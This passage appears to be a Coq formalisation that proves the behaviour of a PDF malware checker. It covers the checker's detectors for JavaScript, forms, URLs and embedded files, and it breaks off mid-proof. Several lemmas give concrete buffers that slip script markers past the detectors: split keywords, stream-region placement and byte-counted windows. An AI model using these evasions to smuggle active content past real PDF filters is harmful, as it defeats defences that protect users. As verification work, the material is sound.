Lemma Check_external data :
  checkStructure data = None -> checkForJavaScript data = None ->
  checkForForms data = None ->
  checkForExternalReferences data = Some ErrExternalRefDetected ->
  Check data = Some ErrExternalRefDetected.
Proof. intros H1 H2 H3 H4. now rewrite Check_unfold, H1, H2, H3, H4. Qed.

Lemma Check_embedded data :
  checkStructure data = None -> checkForJavaScript data = None ->
  checkForForms data = None -> checkForExternalReferences data = None ->
  checkForEmbeddedFiles data = Some ErrEmbeddedFileDetected ->
  Check data = Some ErrEmbeddedFileDetected.
Proof. intros H1 H2 H3 H4 H5. now rewrite Check_unfold, H1, H2, H3, H4, H5. Qed.

(** ** The sanitizer of the earlier file *)

Lemma consuming_removal c kw : consuming (security.removal (String c kw)).
Proof.
  unfold security.removal. apply consuming_concat.
  apply consuming_concat, consuming_class.
Qed.

(** Every removal needs both angle brackets. *)
Lemma requires_removal x kw :
  x = "<"%char \/ x = ">"%char -> requires x (security.removal kw).
Proof.
  intros [-> | ->]; unfold security.removal.
  - do 4 apply req_right. apply requires_lit; [reflexivity | now left].
  - do 2 apply req_right. apply req_left.
    apply requires_lit; [reflexivity | now left].
Qed.

Lemma jsRemovalPatterns_ok :
  Forall (fun r => consuming r /\
                   requires "<" r /\ requires ">" r) security.jsRemovalPatterns.
Proof.
  unfold security.jsRemovalPatterns.
  repeat (apply Forall_cons;
          [split; [apply consuming_removal
                  |split; apply requires_removal; auto]|]).
  apply Forall_nil.
Qed.

Lemma ReplaceAllString_length r t :
  consuming r -> length (ReplaceAllString r t []) <= length t.
Proof.
  intros Hr.
  apply (replace_from_length r [] Hr (Nat.le_0_l 1) (Cur None t)).
Qed.

(** ** The regions of stream stripping

    Stream stripping replaces the first region by one space and goes on
    after it; a text without a region is kept. *)

(** [streamRx] matches at a begin marker only. *)
Lemma run_streamRx_begins q s :
  begins_region s = false -> run streamRx (Cur q s) = [].
Proof.
  unfold begins_region. intros H.
  rewrite streamRx_unfold, run_lit_i by apply is_ascii_stream.
  destruct (prefix_i "stream" s) as [[w t]|] eqn:E; [|reflexivity].
  apply negb_false_iff in H.
  cbn [flat_map]. rewrite app_nil_r. unfold stream_tail.
  change (run (WordBoundary ;; lazy_star any ;; lit_i "endstream")%re ?c)
    with (flat_map (run (lazy_star any ;; lit_i "endstream")%re)
            (run WordBoundary c)).
  cbn [run]. unfold at_word_boundary. cbn [prev rest].
  now rewrite (spells_stream_word "strea" _ _ _ q E), H.
Qed.

Lemma in_run_streamRx_begins q s e :
  In e (run streamRx (Cur q s)) -> begins_region s = true.
Proof.
  intros H. destruct (begins_region s) eqn:E; [reflexivity|].
  now rewrite (run_streamRx_begins q s E) in H.
Qed.

(** What [begin_index] and [index_i] find is the first one. *)
Lemma begin_index_none : forall s, begin_index s = None ->
  forall a r, s = a ++ r -> begins_region r = false.
Proof.
  induction s as [|b s IH]; intros H a r E.
  - destruct a; [|discriminate]. cbn in E. subst r.
    cbn [begin_index] in H. now destruct (begins_region []).
  - cbn [begin_index] in H.
    destruct (begins_region (b :: s)) eqn:E0; [discriminate|].
    destruct (begin_index s) eqn:E1; [discriminate|].
    destruct a as [|b' a].
    + cbn in E. now subst r.
    + injection E as _ E. now apply (IH eq_refl a r).
Qed.

Lemma begin_index_some : forall s n, begin_index s = Some n ->
  exists a r,
    s = a ++ r /\ length a = n /\ begins_region r = true /\
    forall a1 a2, a = a1 ++ a2 -> a2 <> [] -> begins_region (a2 ++ r) = false.
Proof.
  induction s as [|b s IH]; intros n H.
  - cbn [begin_index] in H. destruct (begins_region []) eqn:E0; [|discriminate].
    injection H as <-. exists [], []. repeat split; auto.
    intros a1 a2 E Hne. destruct a1, a2; congruence || discriminate.
  - cbn [begin_index] in H.
    destruct (begins_region (b :: s)) eqn:E0.
    + injection H as <-. exists [], (b :: s). repeat split; auto.
      intros a1 a2 E Hne. destruct a1, a2; congruence || discriminate.
    + destruct (begin_index s) as [m|] eqn:E1; [|discriminate].
      injection H as <-.
      destruct (IH m eq_refl) as (a & r & -> & <- & Hr & Ha).
      exists (b :: a), r. repeat split; auto.
      intros a1 a2 E Hne. destruct a1 as [|c a1].
      * cbn in E. subst a2. exact E0.
      * injection E as _ E. now apply (Ha a1 a2).
Qed.

Lemma index_i_some pat : forall s k, index_i pat s = Some k ->
  exists a r,
    s = a ++ r /\ length a = k /\ prefix_i pat r <> None /\
    forall a1 a2, a = a1 ++ a2 -> a2 <> [] -> prefix_i pat (a2 ++ r) = None.
Proof.
  induction s as [|b s IH]; intros k H.
  - cbn [index_i] in H. destruct (prefix_i pat []) eqn:E0; [|discriminate].
    injection H as <-. exists [], []. repeat split; auto.
    + cbn. congruence.
    + intros a1 a2 E Hne. destruct a1, a2; congruence || discriminate.
  - cbn [index_i] in H.
    destruct (prefix_i pat (b :: s)) eqn:E0.
    + injection H as <-. exists [], (b :: s). repeat split; auto.
      * cbn [app]. congruence.
      * intros a1 a2 E Hne. destruct a1, a2; congruence || discriminate.
    + destruct (index_i pat s) as [m|] eqn:E1; [|discriminate].
      injection H as <-.
      destruct (IH m eq_refl) as (a & r & -> & <- & Hr & Ha).
      exists (b :: a), r. repeat split; auto.
      intros a1 a2 E Hne. destruct a1 as [|c a1].
      * cbn in E. subst a2. exact E0.
      * injection E as _ E. now apply (Ha a1 a2).
Qed.

(** Splitting a text at a known length. *)
Lemma firstn_skipn_app {A} (a r : list A) :
  firstn (length a) (a ++ r) = a /\ skipn (length a) (a ++ r) = r.
Proof.
  split.
  - rewrite firstn_app, firstn_all, Nat.sub_diag. cbn. apply app_nil_r.
  - rewrite skipn_app, skipn_all, Nat.sub_diag. reflexivity.
Qed.

Lemma app_split_ge {A} (x y u v : list A) :
  x ++ y = u ++ v -> length u <= length x ->
  exists b, x = u ++ b /\ v = b ++ y.
Proof.
  revert u. induction x as [|c x IH]; intros u E L.
  - destruct u; [|cbn in L; lia]. exists []. cbn in *. auto.
  - destruct u as [|d u].
    + exists (c :: x). cbn in *. auto.
    + injection E as -> E. destruct (IH u E) as (b & -> & ->); [cbn in L; lia|].
      now exists b.
Qed.

(** The match of [streamRx] at a begin marker: up to the first spelling of
    [endstream] after the keyword. *)
Lemma run_streamRx_region q kw payload ekw post :
  spells_i "stream" kw ->
  IsWordChar (hd_error (payload ++ ekw ++ post)) = false ->
  spells_i "endstream" ekw ->
  (forall a1 a2, payload = a1 ++ a2 -> a2 <> [] ->
                 prefix_i "endstream" (a2 ++ ekw ++ post) = None) ->
  exists l, run streamRx (Cur q (kw ++ payload ++ ekw ++ post))
            = Cur (last_byte ekw None) post :: l.
Proof.
  intros Hkw Hx Hekw Hno.
  rewrite streamRx_unfold, run_lit_i by apply is_ascii_stream.
  rewrite (spells_prefix _ _ _ Hkw). cbn [flat_map]. rewrite app_nil_r.
  unfold stream_tail.
  change (run (WordBoundary ;; lazy_star any ;; lit_i "endstream")%re ?c)
    with (flat_map (run (lazy_star any ;; lit_i "endstream")%re)
            (run WordBoundary c)).
  cbn [run]. unfold at_word_boundary. cbn [prev rest].
  rewrite (spells_stream_word "strea" _ _ _ q Hkw), Hx. cbn [xorb flat_map].
  rewrite app_nil_r.
  assert (rune_start (ekw ++ post)) as Hrs.
  { pose proof (spells_prefix _ _ post Hekw) as H.
    now apply eat_seq_start in H. }
  destruct (lazy_any_head (lit_i "endstream") (ekw ++ post) Hrs
              payload (last_byte kw q)) with
    (e := Cur (last_byte ekw None) post) (l := @nil cursor) as (l' & Hl).
  - intros a1 a2 E Hne. rewrite run_lit_i by apply is_ascii_endstream.
    now rewrite (Hno a1 a2 E Hne).
  - rewrite run_lit_i by apply is_ascii_endstream.
    rewrite (spells_prefix _ _ _ Hekw).
    f_equal. f_equal. apply last_byte_nonempty.
    apply eat_seq_start in Hekw. tauto.
  - exists l'. exact Hl.
Qed.

(** No region without a begin marker, and none without a spelling of
    [endstream] after the keyword of the first begin marker. *)
Lemma streamRx_needs_begin t :
  begin_index t = None -> MatchString streamRx t = false.
Proof.
  intros H. destruct (MatchString streamRx t) eqn:E; [|reflexivity].
  exfalso. apply MatchString_elim in E as (a & s & -> & E).
  destruct (run streamRx (Cur (last_byte a None) s)) as [|e l] eqn:Er;
    [congruence|].
  assert (In e (run streamRx (Cur (last_byte a None) s))) as Hin
    by (rewrite Er; now left).
  apply in_run_streamRx_begins in Hin.
  now rewrite (begin_index_none _ H a s eq_refl) in Hin.
Qed.

Lemma streamRx_needs_end pre kw body :
  spells_i "stream" kw ->
  (forall a1 a2, pre = a1 ++ a2 -> a2 <> [] ->
                 begins_region (a2 ++ kw ++ body) = false) ->
  index_i "endstream" body = None ->
  MatchString streamRx (pre ++ kw ++ body) = false.
Proof.
  intros Hkw Hpre Hend.
  destruct (MatchString streamRx _) eqn:E; [|reflexivity].
  exfalso. apply MatchString_elim in E as (a & s & Et & E).
  destruct (run streamRx (Cur (last_byte a None) s)) as [|e l] eqn:Er;
    [congruence|].
  assert (In e (run streamRx (Cur (last_byte a None) s))) as Hin
    by (rewrite Er; now left).
  pose proof (in_run_streamRx_begins _ _ _ Hin) as Hb.
  apply streamRx_match_inv in Hin as (w1 & m & w2 & -> & Hw1 & Hw2).
  destruct (Nat.lt_ge_cases (length a) (length pre)) as [L|L].
  - destruct (app_split_ge _ _ _ _ Et (Nat.lt_le_incl _ _ L))
      as (a2 & -> & Es).
    rewrite Es in Hb. rewrite (Hpre a a2 eq_refl) in Hb; [discriminate|].
    intros ->. rewrite app_nil_r in L. lia.
  - symmetry in Et.
    destruct (app_split_ge _ _ _ _ Et L) as (a3 & -> & Es).
    destruct a3 as [|c a3].
    + cbn [app] in Es.
      pose proof (spells_prefix _ _ body Hkw) as P1.
      pose proof (spells_prefix _ _ (m ++ w2 ++ rest e) Hw1) as P2.
      rewrite Es in P1. rewrite P1 in P2. injection P2 as <- ->.
      now apply (index_i_none_spells _ _ m w2 (rest e) Hend).
    + pose proof (eat_seq_len _ _ _ _ Hkw) as [_ Lk].
      pose proof (eat_seq_len _ _ _ _ Hw1) as [L1 _].
      cbn in Lk, L1.
      assert (kw ++ body = ((c :: a3) ++ w1 ++ m) ++ w2 ++ rest e) as Es'
        by (rewrite Es, <- !app_assoc; reflexivity).
      symmetry in Es'.
      destruct (app_split_ge _ _ _ _ Es') as (b1 & _ & Eb).
      { rewrite !length_app. cbn [length]. lia. }
      now apply (index_i_none_spells _ _ b1 w2 (rest e) Hend).
Qed.

(** The first region in terms of the text. *)
Lemma first_region_some data pre post :
  first_region data = Some (pre, post) ->
  exists kw payload ekw,
    data = pre ++ kw ++ payload ++ ekw ++ post /\
    spells_i "stream" kw /\ spells_i "endstream" ekw /\
    IsWordChar (hd_error (payload ++ ekw ++ post)) = false /\
    (forall a1 a2, pre = a1 ++ a2 -> a2 <> [] ->
                   begins_region (a2 ++ kw ++ payload ++ ekw ++ post) = false) /\
    (forall a1 a2, payload = a1 ++ a2 -> a2 <> [] ->
                   prefix_i "endstream" (a2 ++ ekw ++ post) = None).
Proof.
  unfold first_region.
  destruct (begin_index data) as [n|] eqn:Eb; [|discriminate].
  apply begin_index_some in Eb as (a & r & -> & <- & Hr & Ha).
  destruct (firstn_skipn_app a r) as [-> ->].
  unfold begins_region in Hr.
  destruct (prefix_i "stream" r) as [[kw body]|] eqn:Ep; [|discriminate].
  apply negb_true_iff in Hr. apply prefix_spells in Ep as [Hkw ->].
  destruct (index_i "endstream" body) as [k|] eqn:Ei; [|discriminate].
  apply index_i_some in Ei as (payload & r2 & -> & <- & _ & Hp).
  destruct (firstn_skipn_app payload r2) as [_ ->].
  destruct (prefix_i "endstream" r2) as [[ekw post']|] eqn:Ee; [|discriminate].
  apply prefix_spells in Ee as [Hekw ->].
  intros H. injection H as <- <-.
  exists kw, payload, ekw. repeat split; auto.
Qed.

Lemma first_region_intro pre kw payload ekw post :
  spells_i "stream" kw ->
  begin_index (pre ++ kw ++ payload ++ ekw ++ post) = Some (length pre) ->
  spells_i "endstream" ekw ->
  index_i "endstream" (payload ++ ekw ++ post) = Some (length payload) ->
  first_region (pre ++ kw ++ payload ++ ekw ++ post) = Some (pre, post).
Proof.
  intros Hkw Hb Hekw Hi. unfold first_region. rewrite Hb.
  destruct (firstn_skipn_app pre (kw ++ payload ++ ekw ++ post)) as [-> ->].
  rewrite (spells_prefix _ _ _ Hkw), Hi.
  destruct (firstn_skipn_app payload (ekw ++ post)) as [_ ->].
  now rewrite (spells_prefix _ _ _ Hekw).
Qed.

Lemma first_region_shorter data pre post :
  first_region data = Some (pre, post) -> length post < length data.
Proof.
  intros H.
  apply first_region_some in H as (kw & payload & ekw & -> & Hkw & _).
  apply spells_nonempty in Hkw. rewrite !length_app.
  destruct kw; [congruence | cbn; lia].
Qed.

(** One step of stream stripping: the first region becomes one space and
    the stripping goes on after it; without a region the text is kept. *)
Lemma stripStreams_step data :
  stripStreams data =
  match first_region data with
  | None => data
  | Some (pre, post) => pre ++ str " " ++ stripStreams post
  end.
Proof.
  destruct (first_region data) as [[pre post]|] eqn:E.
  - apply first_region_some in E
      as (kw & payload & ekw & -> & Hkw & Hekw & Hx & Hpre & Hpay).
    rewrite !stripStreams_from.
    assert (rune_start (kw ++ payload ++ ekw ++ post)) as Hrs.
    { pose proof (spells_prefix _ _ (payload ++ ekw ++ post) Hkw) as H.
      now apply eat_seq_start in H. }
    rewrite replace_skip; [|apply consuming_streamRx | exact Hrs |].
    + f_equal.
      destruct (run_streamRx_region (last_byte pre None) kw payload ekw post
                  Hkw Hx Hekw Hpay) as (l & Hl).
      rewrite (replace_at _ _ _ _ _ _ consuming_streamRx Hl). f_equal.
      apply replace_prev; [apply run_streamRx_prev | apply consuming_streamRx].
    + intros a1 a2 Ea Hne. apply run_streamRx_begins. now apply (Hpre a1 a2).
  - apply replace_no_match; [apply consuming_streamRx|].
    unfold first_region in E.
    destruct (begin_index data) as [n|] eqn:Eb;
      [|now apply streamRx_needs_begin].
    apply begin_index_some in Eb as (a & r & -> & <- & Hr & Ha).
    destruct (firstn_skipn_app a r) as [_ Es]. rewrite Es in E.
    unfold begins_region in Hr.
    destruct (prefix_i "stream" r) as [[kw body]|] eqn:Ep; [|discriminate].
    apply prefix_spells in Ep as [Hkw ->].
    destruct (index_i "endstream" body) as [k|] eqn:Ei.
    + exfalso. apply index_i_some in Ei as (payload & r2 & -> & <- & Hne & _).
      destruct (firstn_skipn_app payload r2) as [_ Es2]. rewrite Es2 in E.
      destruct (prefix_i "endstream" r2) as [[]|]; [discriminate | congruence].
    + now apply streamRx_needs_end.
Qed.

(** Stream stripping replaces each region by one space. *)
Lemma stripStreams_regions : forall n data,
  length data <= n -> stripStreams data = strip_regions n data.
Proof.
  induction n as [|n IH]; intros data L.
  - destruct data; [|cbn in L; lia]. now rewrite stripStreams_step.
  - rewrite stripStreams_step. cbn [strip_regions].
    destruct (first_region data) as [[pre post]|] eqn:E; [|reflexivity].
    apply first_region_shorter in E. rewrite (IH post); [reflexivity | lia].
Qed.

(** * The test suite of the repository on the model *)

Lemma pdf_test_check_cases : run_cases check_cases = map snd check_cases.
Proof. vm_compute. reflexivity. Qed.

Lemma pdf_test_owasp_cases : run_cases owasp_cases = map snd owasp_cases.
Proof. vm_compute. reflexivity. Qed.

Lemma pdf_test_edge_cases : run_cases edge_cases = map snd edge_cases.
Proof. vm_compute. reflexivity. Qed.

(** * The claims *)

(** C1.  [Check] runs the structure check, the script detector, the
    forms detector, the external-reference detector and the embedded-file
    detector in this order, and returns the first error unchanged.  Hence
    a buffer that passes the structure check and matches a script pattern
    gets [ErrJavaScriptDetected], whatever the forms, external-reference
    and embedded-file patterns match. *)
Theorem Check_priority_short_circuit (data : bytes) :
  Check data =
    first_error [checkStructure data; checkForJavaScript data;
                 checkForForms data; checkForExternalReferences data;
                 checkForEmbeddedFiles data]
  /\ (checkStructure data = None ->
      any_match jsPatterns (collapseWhitespace (stripStreams data)) = true ->
      Check data = Some ErrJavaScriptDetected).
Proof.
  split; [apply Check_unfold|].
  intros H1 H2. apply Check_script; [exact H1|].
  now apply checkForJavaScript_direct.
Qed.

(** A buffer that matches a pattern of every category. *)
Lemma Check_priority_short_circuit_witness :
  let data := go "%PDF-1.4\n<</JavaScript 1 0 R/AcroForm 2 0 R/URI(http://a.b)/EmbeddedFile>>" in
  any_match formPatternsRegex data = true /\
  any_match externalRegexes (collapseWhitespace data) = true /\
  any_match embeddedFilesRegex data = true /\
  Check data = Some ErrJavaScriptDetected.
Proof.
  intros data. do 3 (split; [vm_compute; reflexivity|]).
  apply (proj2 (Check_priority_short_circuit data)); vm_compute; reflexivity.
Defined.

(** C2, amended.  For every buffer with a valid header whose
    stream-stripped text contains a slash, any run of whitespace and a
    spelling, in any case, of the keyword [JavaScript] or [JS], [Check]
    returns [ErrJavaScriptDetected].  Whitespace is thus tolerated between
    the slash and the keyword; nothing is said of whitespace inside the
    keyword. *)
Theorem script_marker_detected (data pre ws kw post : bytes) :
  checkStructure data = None ->
  stripStreams data = pre ++ "/"%char :: ws ++ kw ++ post ->
  Forall (fun b => is_space_byte b = true) ws ->
  spells_i "JavaScript" kw \/ spells_i "JS" kw ->
  Check data = Some ErrJavaScriptDetected.
Proof.
  intros Hs Ht Hws Hkw. apply Check_script; [exact Hs|].
  apply checkForJavaScript_direct. rewrite Ht.
  destruct Hkw as [Hkw|Hkw].
  - eapply any_match_In; [left; reflexivity|].
    apply slash_keyword_collapsed; auto using no_space_JavaScript.
    repeat constructor.
  - eapply any_match_In; [right; left; reflexivity|].
    apply slash_keyword_collapsed; auto using no_space_JS.
    repeat constructor.
Qed.

(** The marker in mixed case, with spaces and newlines after the slash. *)
Lemma script_marker_detected_witness :
  let data := go "%PDF-1.4\n<< /S / \n\n JAVAscript >>" in
  Check data = Some ErrJavaScriptDetected.
Proof.
  intros data.
  apply (script_marker_detected data (go "%PDF-1.4\n<< /S ") (go " \n\n ")
           (go "JAVAscript") (go " >>")).
  - vm_compute; reflexivity.
  - vm_compute; reflexivity.
  - repeat constructor.
  - left. vm_compute; reflexivity.
Defined.

(** C2 as stated fails: a keyword split by a newline or a space is not a
    match of any pattern, and the buffer passes [Check]; and a buffer
    without header is rejected for its structure, marker or not. *)
Lemma script_marker_split_keyword_passes :
  Check (go "%PDF-1.4\n/Java\nScript") = None /\
  Check (go "%PDF-1.4\n/J S") = None /\
  Check (go "/JavaScript") = Some ErrInvalidPDFStructure.
Proof. repeat split; vm_compute; reflexivity. Qed.

(** C3, amended.  Stream stripping replaces each stream region by one
    space, from left to right.  A region begins at the first spelling, in
    any case, of [stream] that no word character follows (the spelling may
    be the end of a longer word), provided a spelling of [endstream] comes
    after the keyword, and it ends with the first such spelling; a buffer
    without a region is kept as it is.  The script detector reads the
    stripped text only: two buffers that are equal once their regions are
    replaced get the same verdict, so what stands inside a region is not
    flagged and [Check] does not return [ErrJavaScriptDetected] on its
    account. *)
Theorem stream_exclusion (data : bytes) :
  stripStreams data = strip_regions (length data) data /\
  (first_region data = None -> stripStreams data = data) /\
  (forall pre kw payload ekw post,
     data = pre ++ kw ++ payload ++ ekw ++ post ->
     spells_i "stream" kw -> begin_index data = Some (length pre) ->
     spells_i "endstream" ekw ->
     index_i "endstream" (payload ++ ekw ++ post) = Some (length payload) ->
     stripStreams data = pre ++ str " " ++ stripStreams post) /\
  (forall data',
     strip_regions (length data') data' = strip_regions (length data) data ->
     checkForJavaScript data' = checkForJavaScript data /\
     (checkForJavaScript data' = None ->
      Check data <> Some ErrJavaScriptDetected)).
Proof.
  split; [now apply stripStreams_regions|]. split; [|split].
  - intros H. now rewrite stripStreams_step, H.
  - intros pre kw payload ekw post -> Hkw Hb Hekw Hi.
    rewrite stripStreams_step.
    now rewrite (first_region_intro pre kw payload ekw post Hkw Hb Hekw Hi).
  - intros data' H.
    assert (checkForJavaScript data' = checkForJavaScript data) as E.
    { unfold checkForJavaScript.
      rewrite (stripStreams_regions (length data') data' (le_n _)), H.
      now rewrite <- (stripStreams_regions (length data) data (le_n _)). }
    split; [exact E|]. intros H'. apply Check_not_script. now rewrite <- E.
Qed.

(** A payload that holds [app.], [/JavaScript] and [eval(], after a word
    that ends in [stream] and starts no region. *)
Lemma stream_exclusion_witness :
  let pre := go "%PDF-1.4 (bitstream_v2)\n" in
  let data := pre ++ go "stream" ++ go "\napp.alert(1); /JavaScript eval(x)\n"
                ++ go "endstream" ++ go "\nendobj" in
  stripStreams data = pre ++ str " " ++ stripStreams (go "\nendobj") /\
  checkForJavaScript data = None /\
  Check data <> Some ErrJavaScriptDetected.
Proof.
  intros pre data.
  destruct (stream_exclusion data) as (_ & _ & H2 & H3).
  split.
  - apply (H2 pre (go "stream") (go "\napp.alert(1); /JavaScript eval(x)\n")
             (go "endstream") (go "\nendobj"));
      vm_compute; reflexivity.
  - destruct (H3 (pre ++ go "stream\n\nendstream\nendobj")) as [E H4];
      [vm_compute; reflexivity|].
    assert (checkForJavaScript (pre ++ go "stream\n\nendstream\nendobj") = None)
      as E' by (vm_compute; reflexivity).
    split; [now rewrite <- E | now apply H4].
Defined.

(** C3 as stated fails: the keyword [stream] with a letter, a digit or an
    underscore right after it begins no region: the text up to [endstream]
    is not replaced, and what stands in it is flagged; with a space after
    the keyword the same payload is not. *)
Lemma stream_keyword_without_boundary_is_scanned :
  stripStreams (go "%PDF-1.4\nstream_app.alert(1)\nendstream")
  = go "%PDF-1.4\nstream_app.alert(1)\nendstream" /\
  Check (go "%PDF-1.4\nstream_app.alert(1)\nendstream")
  = Some ErrJavaScriptDetected /\
  Check (go "%PDF-1.4\nSTREAM9 eval(x) ENDSTREAM")
  = Some ErrJavaScriptDetected /\
  Check (go "%PDF-1.4\nstream app.alert(1)\nendstream") = None.
Proof. repeat split; vm_compute; reflexivity. Qed.

(** C4, amended.  For every buffer with a valid header whose
    stream-stripped text contains a [#] followed by at least eight hex
    digits, with a spelling of [javascript] or [js] within the 80 bytes
    before the [#], [Check] returns [ErrJavaScriptDetected], direct marker
    or not.  The window is counted in bytes, not in characters. *)
Theorem hex_window_detected (data a h b : bytes) :
  checkStructure data = None ->
  stripStreams data = a ++ "#"%char :: h ++ b ->
  8 <= length h -> Forall (fun x => is_hex_byte x = true) h ->
  has_js_word (lastn 80 a) ->
  Check data = Some ErrJavaScriptDetected.
Proof.
  intros Hs Ht L Hh Hw. apply Check_script; [exact Hs|].
  unfold checkForJavaScript.
  destruct (any_match jsPatterns _); [reflexivity|].
  rewrite Ht.
  destruct (FindAll_hex a h b L Hh) as (loc & Hin & Hloc).
  rewrite (hex_context_loop_hit _ _ loc Hin); [reflexivity|].
  rewrite Hloc, slice_before. now apply jsWordRegex_spec.
Qed.

(** A buffer that no direct pattern matches. *)
Lemma hex_window_detected_witness :
  let data := go "%PDF-1.4\n(JavaScript) 12 #6170702E616C657274" in
  any_match jsPatterns (collapseWhitespace (stripStreams data)) = false /\
  Check data = Some ErrJavaScriptDetected.
Proof.
  intros data. split; [vm_compute; reflexivity|].
  apply (hex_window_detected data (go "%PDF-1.4\n(JavaScript) 12 ")
           (go "6170702E616C657274") []).
  - vm_compute; reflexivity.
  - vm_compute; reflexivity.
  - cbn; lia.
  - repeat constructor.
  - exists (go "%PDF-1.4\n("), (go "JavaScript"), (go ") 12 ").
    split; [vm_compute; reflexivity|]. left. vm_compute; reflexivity.
Defined.

(** C4 as stated fails: with [js], forty two-byte characters and then the
    hex run, the word stands 42 characters but 82 bytes before the [#],
    outside the window, and the buffer passes [Check]. *)
Lemma hex_window_counts_bytes :
  let gap := concat (repeat [byte_of 195; byte_of 169] 40) in
  let data := go "%PDF-1.4 js" ++ gap ++ go "#41424344" in
  stripStreams data = go "%PDF-1.4 " ++ (go "js" ++ gap) ++ go "#41424344" /\
  rune_count (go "js" ++ gap) = 42 /\ length (go "js" ++ gap) = 82 /\
  Check data = None.
Proof. repeat split; vm_compute; reflexivity. Qed.

(** C5.  When no direct script pattern and no [#]-hex window matched,
    the script detector reports [ErrJavaScriptDetected] if the
    stream-stripped text contains an angle-bracket-delimited string of
    four or more hex digits and also contains a spelling of [javascript]
    or [js] anywhere; otherwise it passes. *)
Theorem angle_hex_cooccurrence (content : bytes) :
  let t := stripStreams content in
  any_match jsPatterns (collapseWhitespace t) = false ->
  hex_context_loop t (FindAllStringIndex jsHexRx t) = false ->
  (has_angle_hex t /\ has_js_word t ->
   checkForJavaScript content = Some ErrJavaScriptDetected) /\
  (~ (has_angle_hex t /\ has_js_word t) ->
   checkForJavaScript content = None).
Proof.
  intros t H1 H2. unfold checkForJavaScript. fold t. rewrite H1, H2.
  split.
  - intros [Ha Hw]. apply jsHexAngle_spec in Ha. apply jsWordRegex_spec in Hw.
    now rewrite Ha, Hw.
  - intros Hn.
    destruct (MatchString jsHexAngle t) eqn:Ea; [|reflexivity].
    destruct (MatchString jsWordRegex t) eqn:Ew; [|reflexivity].
    exfalso. apply Hn. split; [now apply jsHexAngle_spec | now apply jsWordRegex_spec].
Qed.

(** One text with both conditions, one with the hex string only. *)
Lemma angle_hex_cooccurrence_witness :
  checkForJavaScript (go "%PDF-1.4\n(js) <48656C6C6F>")
    = Some ErrJavaScriptDetected /\
  checkForJavaScript (go "%PDF-1.4\n(text) <48656C6C6F>") = None.
Proof.
  split.
  - apply (angle_hex_cooccurrence (go "%PDF-1.4\n(js) <48656C6C6F>"));
      try (vm_compute; reflexivity).
    split.
    + exists (go "%PDF-1.4\n(js) "), (go "48656C6C6F"), [].
      split; [vm_compute; reflexivity|]. split; [cbn; lia | repeat constructor].
    + exists (go "%PDF-1.4\n("), (go "js"), (go ") <48656C6C6F>").
      split; [vm_compute; reflexivity|]. right. vm_compute; reflexivity.
  - apply (angle_hex_cooccurrence (go "%PDF-1.4\n(text) <48656C6C6F>"));
      try (vm_compute; reflexivity).
    intros [_ Hw]. apply jsWordRegex_spec in Hw. vm_compute in Hw. discriminate.
Defined.

(** C6.  [Check] returns [ErrInvalidPDFStructure] for the empty buffer,
    and for every buffer whose first [min 1024 (len data)] bytes do not
    contain [%PDF-], whatever follows these bytes and whatever the
    detectors would say. *)
Theorem invalid_structure_rejected :
  Check [] = Some ErrInvalidPDFStructure /\
  (forall data,
      (forall a b,
          firstn (Nat.min 1024 (length data)) data <> a ++ str "%PDF-" ++ b) ->
      Check data = Some ErrInvalidPDFStructure) /\
  (forall head tail,
      length head = 1024 ->
      (forall a b, head <> a ++ str "%PDF-" ++ b) ->
      Check (head ++ tail) = Some ErrInvalidPDFStructure).
Proof.
  assert (forall data,
      (forall a b,
          firstn (Nat.min 1024 (length data)) data <> a ++ str "%PDF-" ++ b) ->
      Check data = Some ErrInvalidPDFStructure) as H.
  { intros data Hn. unfold Check.
    destruct (length data =? 0); [reflexivity|].
    rewrite header_limit_min.
    destruct (Contains (firstn (Nat.min 1024 (length data)) data) (str "%PDF-"))
      eqn:E; [|reflexivity].
    apply Contains_spec in E as (a & c & E). now apply Hn in E. }
  split; [reflexivity|]. split; [exact H|].
  intros head tail L Hn. apply H. intros a b.
  rewrite length_app, L.
  replace (Nat.min 1024 (1024 + length tail)) with (length head) by lia.
  rewrite firstn_app, firstn_all, Nat.sub_diag. cbn [firstn]. rewrite app_nil_r.
  apply Hn.
Qed.

(** A buffer without header that holds a script marker. *)
Lemma invalid_structure_rejected_witness :
  Check (go "Not a PDF file /JavaScript") = Some ErrInvalidPDFStructure.
Proof.
  apply (proj1 (proj2 invalid_structure_rejected)).
  intros a b E.
  assert (Contains (firstn (Nat.min 1024 (length (go "Not a PDF file /JavaScript")))
                      (go "Not a PDF file /JavaScript")) (str "%PDF-") = true) as H
    by (apply Contains_spec; eauto).
  vm_compute in H. discriminate H.
Defined.

(** C7, amended.  The external-reference detector works on the
    whitespace-collapsed text, streams included.  For every buffer with a
    valid header that triggers no script and no form signature and
    contains a spelling, in any case, of [http://], [https://], [file://]
    or [ftp://] that stands at the start of the text or after a byte that
    is no word character (no letter, digit or underscore), [Check] returns
    [ErrExternalRefDetected], also when the URL is inside a stream
    region. *)
Theorem url_scheme_detected (data a w b : bytes) :
  checkStructure data = None ->
  checkForJavaScript data = None ->
  checkForForms data = None ->
  data = a ++ w ++ b ->
  IsWordChar (last_byte a None) = false ->
  spells_i "http://" w \/ spells_i "https://" w \/
  spells_i "file://" w \/ spells_i "ftp://" w ->
  checkForExternalReferences data
    = (if any_match externalRegexes (squeeze false data)
       then Some ErrExternalRefDetected else None)
  /\ Check data = Some ErrExternalRefDetected.
Proof.
  intros Hs Hj Hf -> Ha Hw.
  assert (checkForExternalReferences (a ++ w ++ b)
          = (if any_match externalRegexes (squeeze false (a ++ w ++ b))
             then Some ErrExternalRefDetected else None)) as E.
  { unfold checkForExternalReferences. now rewrite collapseWhitespace_squeeze. }
  split; [exact E|].
  rewrite Check_unfold, Hs, Hj, Hf. cbn [first_error]. rewrite E.
  destruct no_space_scheme as (N1 & N2 & N3 & N4).
  assert (Forall (fun x => negb (is_space_byte x) = true) w /\ w <> []) as [Fw Hne].
  { destruct Hw as [Hw|[Hw|[Hw|Hw]]];
      (split;
       [first [exact (prefix_i_nonspace _ _ _ _ N1 Hw)
              |exact (prefix_i_nonspace _ _ _ _ N2 Hw)
              |exact (prefix_i_nonspace _ _ _ _ N3 Hw)
              |exact (prefix_i_nonspace _ _ _ _ N4 Hw)]
       |exact (spells_nonempty _ _ _ Hw)]). }
  assert (rune_start (w ++ squeeze false b)) as Hrs.
  { destruct Hw as [Hw|[Hw|[Hw|Hw]]];
      apply (spells_prefix _ _ (squeeze false b)) in Hw;
      now apply eat_seq_start in Hw. }
  rewrite (squeeze_app_word w Fw Hne a false b).
  assert (IsWordChar (last_byte (squeeze false a) None) = false) as Ha'.
  { rewrite squeeze_last_word; [exact Ha | discriminate]. }
